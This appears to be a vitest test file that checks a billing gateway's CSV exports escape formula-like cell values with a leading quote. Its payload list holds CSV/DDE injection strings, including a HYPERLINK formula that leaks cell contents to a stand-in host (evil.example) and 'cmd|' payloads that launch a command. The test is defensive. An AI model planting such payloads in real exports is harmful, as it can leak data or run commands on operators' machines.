import { describe, expect, it } from 'vitest';
import { useBillingHarness, postBillingRun, waitForRun } from './support/billing.js';
import { assertion, bearer, buy, createOperator, createPublisher, unique } from './support/harness.js';
import { useGateway } from './support/world.js';

/** Issue 10 item 2: what reached the operator's spreadsheet as a live formula. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '-2+3+cmd|x',
  '\r=1',
];

const gw = useGateway({ queuePrefix: unique('q-csv') });
useBillingHarness(gw, { worker: true });

/** Cells of a CSV text, parsed by the RFC 4180 rules (quotes double inside quoted cells). */
function cells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describe('CSV safety in every CSV', () => {
  it('When descriptions and a subscriber reference start like formulas, then both CSVs write them with a leading quote, numbers untouched', async () => {
    const op = await createOperator(gw);
    const publisher = await createPublisher(gw);
    const ref = `=cmd|'/C_calc'!A0-${unique('r')}`;
    const put = await gw
      .api()
      .put(`/v1/operator/subscribers/${encodeURIComponent(ref)}`)
      .set(bearer(op.apiKey))
      .send({});
    expect(put.status).toBe(201);
    const token = assertion(op, ref);
    for (const description of PAYLOADS)
      expect((await buy(gw, publisher, token, { amount: '1.00', description })).res.status).toBe(200);
    const runId = (await waitForRun(gw, op, (await postBillingRun(gw, op)).body.id)).id;

    const invoices = await gw
      .api()
      .get('/v1/operator/invoices')
      .query({ billingRun: runId })
      .set(bearer(op.apiKey))
      .set('Accept', 'text/csv');
    expect(invoices.status).toBe(200);
    const [header, ...rows] = cells(invoices.text);
    const at = (name: string) => (header as string[]).indexOf(name);
    expect(rows.map((r) => r[at('description')]).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
    expect(new Set(rows.map((r) => r[at('subscriberRef')]))).toEqual(new Set([`'${ref}`]));
    expect(new Set(rows.map((r) => r[at('amount')]))).toEqual(new Set(['1.00']));

    const reconciliation = await gw
      .api()
      .get(`/v1/operator/billing-runs/${runId}/reconciliation`)
      .set(bearer(op.apiKey))
      .set('Accept', 'text/csv');
    const [recHeader, recRow] = cells(reconciliation.text);
    expect(recRow?.[(recHeader as string[]).indexOf('subscriberRef')]).toBe(`'${ref}`);
    expect(recRow?.[(recHeader as string[]).indexOf('total')]).toBe('6.00');
  });
});
